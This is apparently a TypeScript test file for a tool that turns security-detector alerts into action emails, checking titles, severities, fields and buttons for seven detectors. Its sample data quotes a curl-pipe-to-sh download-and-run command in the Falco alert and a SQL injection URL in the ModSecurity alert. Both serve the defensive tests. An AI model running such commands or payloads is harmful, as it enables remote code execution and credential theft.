/**
 * The seven example detectors (`detectors/*.yaml`) against samples written from their projects'
 * documented formats (`tests/fixtures/samples/`): each passes `check --sample` (the CLI as a child
 * process), and each alert, ingested through the pipeline into the outbox and read back with mailparser,
 * shows at the top of its HTML and its text part what happened, the severity, the host/IP/user and what
 * the buttons do. Alertmanager's webhook splits into one alert per item, and a resolved item threads
 * onto its firing one. The reverse DNS lookups ask a loopback DNS server.
 */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { simpleParser } from "mailparser";
import { writeProject } from "./_config.ts";
import { runTask } from "./_task.ts";
import { exampleFiles, examplesHarness, SAMPLES } from "./_examples.ts";
import { createApp } from "../routes/app.ts";
import { Metrics } from "../core/service/metrics.ts";
import { Queue } from "../core/service/queue.ts";

/** What the top of each example's email must show: title, level, who/where, and each button. */
const EXPECTED: Record<string, {
  sample: string;
  title: string;
  severity: string;
  fields: string[];
  buttons: string[];
}[]> = {
  suricata: [{
    sample: "suricata.json",
    title: "ET SCAN Potential SSH Scan",
    severity: "HIGH",
    fields: ["185.220.101.34:44312", "10.20.4.17:22 (TCP)", "ids-dmz-01"],
    buttons: [
      "Block 185.220.101.34 on the perimeter firewall",
      "Adds 185.220.101.34 to the perimeter firewall's block list for 24 hours (sid 2001219 as the reason)",
      "Create Jira ticket",
      "Opens a SOC ticket for ET SCAN Potential SSH Scan from 185.220.101.34",
    ],
  }],
  wazuh: [{
    sample: "wazuh.json",
    title:
      "sshd: brute force trying to get access to the system. Non existent user.",
    severity: "HIGH",
    fields: ["web-prod-03 (10.20.6.31, id 004)", "198.51.100.23", "oracle"],
    buttons: [
      "Isolate web-prod-03",
      "Asks the Wazuh manager to run the firewall-drop active response for 198.51.100.23 on agent 004",
    ],
  }],
  falco: [{
    sample: "falco.json",
    title:
      "Terminal shell in container: bash -c id; curl -s http://203.0.113.50/x.sh | sh",
    severity: "MEDIUM",
    fields: [
      "k8s-node-07",
      "payments/checkout-7d4b9c6f8-x2lqz",
      "root (loginuid -1)",
      "evt.time 1685022245478445995",
    ],
    buttons: [
      "Cordon k8s-node-07",
      "Marks node k8s-node-07 unschedulable",
    ],
  }],
  guardduty: [{
    sample: "guardduty.json",
    title:
      "198.51.100.77 is performing SSH brute force attacks against i-0a1b2c3d4e5f67890.",
    severity: "MEDIUM",
    fields: [
      "i-0a1b2c3d4e5f67890 (bastion-eu-1)",
      "172.31.40.12",
      "54.170.11.22",
      "198.51.100.77 (Example Hosting, Netherlands)",
    ],
    buttons: [
      "Quarantine i-0a1b2c3d4e5f67890",
      "Moves the instance into the quarantine security group",
    ],
  }],
  alertmanager: [{
    sample: "alertmanager.json",
    title: "CPU above 95% for 10 minutes on db-01.example.org",
    severity: "CRITICAL",
    fields: ["db-01.example.org:9100", "firing since 2024-03-12T03:10:00.000Z"],
    buttons: [
      "Silence NodeHighCPU on db-01.example.org:9100 for 2 h",
      "Creates a 2-hour Alertmanager silence matching alertname and instance",
    ],
  }, {
    sample: "alertmanager.json",
    title: "CPU above 95% for 10 minutes on db-02.example.org",
    severity: "MEDIUM",
    fields: [
      "db-02.example.org:9100",
      "https://runbooks.example.org/node-high-cpu",
    ],
    buttons: ["Silence NodeHighCPU on db-02.example.org:9100 for 2 h"],
  }],
  modsecurity: [{
    sample: "modsecurity.json",
    title: "SQL Injection Attack Detected via libinjection",
    severity: "HIGH",
    fields: [
      "203.0.113.99:53122",
      "shop.example.org (10.20.8.5:443)",
      "GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
      "sqlmap/1.7.2#stable",
    ],
    buttons: [
      "Block 203.0.113.99 at the WAF",
      "Adds 203.0.113.99 to the WAF deny list for 24 hours",
    ],
  }],
  elastic: [{
    sample: "elastic.json",
    title: "Suspicious PowerShell Encoded Command",
    severity: "HIGH",
    fields: [
      "WS-FIN-042 (10.30.12.42, fe80::1c2d:3e4f:5a6b:7c8d)",
      "CORP\\jdoe",
      "powershell.exe (pid 7312, parent cmd.exe)",
    ],
    buttons: [
      "Isolate WS-FIN-042",
      "Asks Elastic Defend to isolate WS-FIN-042 from the network",
    ],
  }],
};

/** The visible text of some HTML: tags dropped, entities decoded, spaces collapsed. */
function visibleText(html: string): string {
  return html.replace(/<[^>]*>/g, " ").replace(/&quot;/g, '"').replace(
    /&#39;|&#x27;/g,
    "'",
  ).replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&")
    .replace(/\s+/g, " ");
}

/** The top of an email: everything before the first enrichment, result or alert data section. */
function topOf(text: string, marks: string[]): string {
  const at = marks.map((m) => text.indexOf(m)).filter((i) => i > 0);
  return at.length ? text.slice(0, Math.min(...at)) : text;
}

Deno.test("check --sample passes for each example detector with its sample", async () => {
  const project = await writeProject({ files: await exampleFiles() });
  try {
    const samples = Object.entries(EXPECTED).flatMap(([name, list]) =>
      [...new Set(list.map((e) => e.sample))].map((s) =>
        `${name}=${SAMPLES}/${s}`
      )
    );
    samples.push(`alertmanager=${SAMPLES}/alertmanager_resolved.json`);
    const run = await runTask(
      "check",
      ["--config", project.config, ...samples.flatMap((s) => ["--sample", s])],
      { cwd: project.dir, env: project.env },
    );
    assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
    assert.match(run.stdout, /^ok: .*7 detector\(s\)/m);
    for (const list of Object.values(EXPECTED)) {
      for (const e of list) {
        assert.ok(
          run.stdout.includes(`[${e.severity.toLowerCase()}]`),
          run.stdout,
        );
      }
    }
    assert.equal(
      run.stdout.split("\n").filter((l) => l.startsWith("sample ")).length,
      9,
      "one line per alert: alertmanager's first sample is two",
    );
  } finally {
    await project.cleanup();
  }
});

Deno.test("check --sample names what would fail later: unfilled placeholders, CEL paths, fingerprint paths", async () => {
  const project = await writeProject({
    detectors: {
      broken: {
        subject: "{signature} from {src_ip}",
        severity: { field: "alert.severity" },
        enrichment_conditional: true,
        enrichments: {
          'alert.rule.level > 3 && alert.src_ip.startsWith("10.")': [],
          'has(alert.guarded) && alert.guarded == "x"': [],
        },
        storm: { fingerprint: ["src_ip", "flow.id"] },
        actions: {
          reply: [["Block {dest_ip}", {
            actions: [
              ["pass_to_mail", { return_name: "jira_id", data: "x" }],
              ["pass_to_mail", { data: "{src_ip} {jira_id} {nope}" }],
            ],
          }]],
        },
      },
    },
  });
  try {
    await Deno.writeTextFile(
      `${project.dir}/sample.json`,
      '{"src_ip": "192.0.2.1", "other": 1}',
    );
    const run = await runTask(
      "check",
      ["--config", project.config, "--sample", "broken=sample.json"],
      { cwd: project.dir, env: project.env },
    );
    assert.equal(run.code, 2, run.stderr);
    const lines = run.stderr.trim().split("\n");
    for (
      const expected of [
        "error: sample.json: broken.subject: unfilled placeholder {signature}",
        "error: sample.json: broken.actions.reply[0]: unfilled placeholder {dest_ip}",
        "error: sample.json: broken.actions.reply[0].actions[1]: unfilled placeholder {nope}",
        'error: sample.json: broken.enrichments["alert.rule.level > 3 && alert.src_ip.startsWith("10.")"]: reads alert.rule.level, which the sample does not have',
        'error: sample.json: broken.storm.fingerprint: the sample has no "flow.id"',
        "error: sample.json: broken.severity.field: gives nothing on the sample",
      ]
    ) {
      assert.ok(
        lines.some((l) => l.startsWith(expected)),
        `${expected}\n${run.stderr}`,
      );
    }
    assert.ok(!run.stderr.includes("{jira_id}"), "a later step's value");
    assert.ok(!run.stderr.includes("guarded"), "has() guards a path");
    assert.ok(!run.stderr.includes("reads alert.src_ip"), run.stderr);
  } finally {
    await project.cleanup();
  }
});

Deno.test("the example detectors' emails show what happened, severity, host/IP/user and what the buttons do at the top", async () => {
  await using h = await examplesHarness();
  const firstIds: Record<string, string> = {};
  for (const [name, expected] of Object.entries(EXPECTED)) {
    const alerts = await h.ingest(name, expected[0]!.sample);
    assert.equal(alerts.length, expected.length, name);
    for (const [i, { summary, mail, html: raw }] of alerts.entries()) {
      const want = expected[i]!;
      assert.equal(summary.sent, true, `${name}: ${summary.delivery.error}`);
      firstIds[name] ??= summary.delivery.message_id;
      assert.ok(mail.subject?.startsWith(`[${want.severity.toLowerCase()}] `));
      const cut = raw.search(/>\s*(Enrichments|Results|Alert)\s*<\/td>/);
      const html = visibleText(cut > 0 ? raw.slice(0, cut) : raw);
      const text = topOf(mail.text ?? "", [
        "\nENRICHMENTS\n",
        "\nRESULTS\n",
        "\nALERT\n",
      ]);
      for (
        const [part, top] of [["html", html], ["text", text]] as const
      ) {
        for (const shown of [want.title, want.severity, ...want.fields]) {
          assert.ok(
            top.includes(shown),
            `${name} ${part}: "${shown}" in\n${top}`,
          );
        }
        for (const shown of want.buttons) {
          assert.ok(top.includes(shown), `${name} ${part}: button "${shown}"`);
        }
        assert.ok(
          top.includes(summary.subject),
          `${name} ${part}: subject line`,
        );
        assert.doesNotMatch(
          top,
          /\{[A-Za-z_@$][^{}\s]*\}/,
          "no unfilled placeholder",
        );
      }
    }
  }
  // Nested data shown as data: ModSecurity's rule messages as a table, Suricata's flowbits as a list.
  // Alertmanager: the resolved item threads onto its firing one and says so in its subject.
  const [resolved] = await h.ingest(
    "alertmanager",
    "alertmanager_resolved.json",
  );
  assert.equal(
    resolved!.mail.subject,
    "Resolved: [critical] NodeHighCPU on db-01.example.org:9100",
  );
  assert.equal(resolved!.mail.inReplyTo, firstIds.alertmanager);
  assert.match(
    resolved!.mail.text ?? "",
    /^Status: +resolved since 2024-03-12T03:10:00\.000Z$/m,
  );
});

Deno.test("the example emails show nested data as tables and lists, not JSON text", async () => {
  await using h = await examplesHarness();
  const [waf] = await h.ingest("modsecurity", "modsecurity.json");
  const results = waf!.html.slice(waf!.html.search(/>\s*Results\s*<\/td>/));
  assert.match(
    results,
    /<th[^>]*>ruleId<\/th>/,
    "messages[].details as a table",
  );
  assert.ok(!results.includes('[{"message"'), "not minified JSON");
  const [ids] = await h.ingest("suricata", "suricata.json");
  assert.match(ids!.html, /<li[^>]*><span[^>]*>ET\.SSH\.scan<\/span><\/li>/);
  assert.match(
    ids!.mail.text ?? "",
    /^Flowbits:\n +- ET\.SSH\.scan\n +- ET\.tor\.exit$/m,
  );
  assert.match(
    ids!.html,
    /tor-exit-34\.example\.net/,
    "reverse DNS ran (loopback)",
  );
  assert.match(
    ids!.mail.text ?? "",
    /\.\.\. \d+ more lines|… \d+ more lines \([\d.]+ KB in all\)/,
  );
});

Deno.test("ingest (CLI) makes one alert and one summary line per item of a split detector, and refuses NDJSON", async () => {
  const project = await writeProject({ files: await exampleFiles() });
  try {
    const stdin = await Deno.readTextFile(`${SAMPLES}/alertmanager.json`);
    const run = await runTask(
      "ingest",
      ["alertmanager", "--config", project.config],
      { cwd: project.dir, env: project.env, stdin },
    );
    assert.equal(run.code, 0, run.stderr);
    const lines = run.stdout.trim().split("\n").map((l) => JSON.parse(l));
    assert.deepEqual(lines.map((l) => l.subject), [
      "[critical] NodeHighCPU on db-01.example.org:9100",
      "[medium] NodeHighCPU on db-02.example.org:9100",
    ]);
    const mail = await simpleParser(
      Buffer.from(await Deno.readFile(lines[1].delivery.path)),
    );
    assert.match(
      mail.text ?? "",
      /^Alertmanager: +http:\/\/alertmanager\.example\.org:9093 \(receiver blitz\)$/m,
      "the request's other fields, under _parent",
    );
    const ndjson = await runTask(
      "ingest",
      ["wazuh", "--config", project.config],
      {
        cwd: project.dir,
        env: project.env,
        stdin: `{"rule":{"level":3}}\n{"rule":{"level":5}}\n`,
      },
    );
    assert.equal(ndjson.code, 2);
    assert.match(ndjson.stderr, /NDJSON.*\/ingest\/<detector>/);
  } finally {
    await project.cleanup();
  }
});

Deno.test("an example's confirmation page shows the filled button label and the detector's key fields", async () => {
  await using h = await examplesHarness();
  const [alert] = await h.ingest("suricata", "suricata.json");
  const link = /href="(http:\/\/127\.0\.0\.1:8080\/actions\/[^"]+)"/.exec(
    alert!.html,
  )?.[1];
  assert.ok(link, "the email links to the action");
  const app = createApp({
    runtime: h.runtime,
    queue: new Queue(h.runtime),
    metrics: new Metrics(),
  });
  const page = await app.request(new URL(link).pathname);
  const html = await page.text();
  assert.equal(page.status, 200, html);
  const text = visibleText(html);
  assert.ok(
    text.includes("Run “Block 185.220.101.34 on the perimeter firewall”"),
    text,
  );
  assert.ok(text.includes("Source 185.220.101.34:44312"), text);
  assert.ok(text.includes("Sensor ids-dmz-01 (ens192)"), text);
  assert.ok(text.includes('"sid": 2001219') || text.includes("2001219"));
});

Deno.test("render lists each placeholder a sample leaves unfilled on stderr, and still prints the email", async () => {
  const project = await writeProject({ files: await exampleFiles() });
  try {
    const run = await runTask(
      "render",
      ["wazuh", "--text", "--config", project.config],
      {
        cwd: project.dir,
        env: project.env,
        stdin: '{"rule": {"level": 3, "description": "Login failed"}}',
      },
    );
    assert.equal(run.code, 0, run.stderr);
    const warnings = run.stderr.split("\n").filter((l) =>
      l.startsWith("warning: unfilled placeholder: ")
    );
    for (
      const expected of [
        "subject: {rule.id}",
        "subject: {agent.name}",
        "key_fields.Agent: {agent.id}",
        "actions.reply[0]: {agent.name}",
      ]
    ) {
      assert.ok(
        warnings.includes(`warning: unfilled placeholder: ${expected}`),
        `${expected}\n${run.stderr}`,
      );
    }
    assert.match(run.stdout, /^Severity: +LOW$/m);
  } finally {
    await project.cleanup();
  }
});

Deno.test("render prints one email per item of a split detector, unthreaded (render opens no store)", async () => {
  const project = await writeProject({ files: await exampleFiles() });
  try {
    const run = await runTask(
      "render",
      ["alertmanager", "--text", "--config", project.config],
      {
        cwd: project.dir,
        env: project.env,
        stdin: await Deno.readTextFile(`${SAMPLES}/alertmanager.json`),
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stderr, /render: 2 alerts \(split: alerts\)/);
    assert.doesNotMatch(run.stderr, /unfilled/);
    assert.deepEqual(
      [...run.stdout.matchAll(/^Instance: +(\S+)$/gm)].map((m) => m[1]),
      ["db-01.example.org:9100", "db-02.example.org:9100"],
    );
  } finally {
    await project.cleanup();
  }
});
